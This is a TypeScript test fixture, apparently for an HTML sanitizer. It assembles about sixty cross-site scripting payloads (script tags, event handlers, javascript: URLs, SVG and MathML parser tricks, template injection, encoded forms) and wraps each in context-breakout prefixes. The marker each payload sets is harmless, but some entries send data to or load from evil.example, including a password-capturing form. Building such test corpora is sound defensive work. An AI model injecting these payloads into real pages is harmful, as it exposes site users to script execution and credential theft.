/** What a browser would run, if it took a text of somebody's for a page; each sets `window.__x`. */
const RUN = 'window.__x=1';
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script\n/x>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR="${RUN}">`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<img src=x: onerror\n=${RUN}>`,
  `<img srcset=x onerror=${RUN}>`,
  `<img src="https://evil.example/x.png">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><a xlink:href=javascript:${RUN}>x</a></math>`,
  `<math><mi><noscript><style></noscript><img src=x onerror=${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.__x=1</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<iframe src=https://evil.example></iframe>`,
  `<frameset onload=${RUN}>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href=" \u0001javascript:${RUN}">x</a>`,
  `<a href=data:text/html,<script>${RUN}</script>>x</a>`,
  `<form action=javascript:${RUN}><input type=submit></form>`,
  `<form action=https://evil.example><input name=password autofocus></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=https://evil.example/x.mp4 onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerover=${RUN} style="position:fixed;inset:0">x</div>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p><style>@keyframes x{}</style>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<style>*{display:none}</style>`,
  `<div style="background:url(https://evil.example/x.png)">x</div>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=import href=data:text/html,<script>${RUN}</script>>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=https://evil.example/>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<custom-x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</custom-x>`,
];
/** Out of what a text may stand in: an attribute, a title, a field, a comment. */
const OUT_OF = ['', '">', "'>", '</title></textarea></style></script>', '-->'];
/** What is no element: out of a script's own text, by a template, by an address, or once it is decoded. */
const OTHERS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript://%0a${RUN}`,
  `';${RUN};//`,
  `\\';${RUN};//`,
  `</script><script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
];

export const SCRIPTS: readonly string[] = [
  ...OTHERS,
  ...OUT_OF.flatMap((before) => ELEMENTS.map((element) => before + element)),
];

/** Ends whatever a script before it has left open. */
const CLOSED =
  '--></script></style></title></textarea></noscript></xmp></template></select></table></svg></math></p></div>';
/** All of them as one text that is read as HTML: each stands where the page begins. */
export const AS_HTML: string = SCRIPTS.map((script) => `<p>text</p>${script}${CLOSED}`).join('\n');
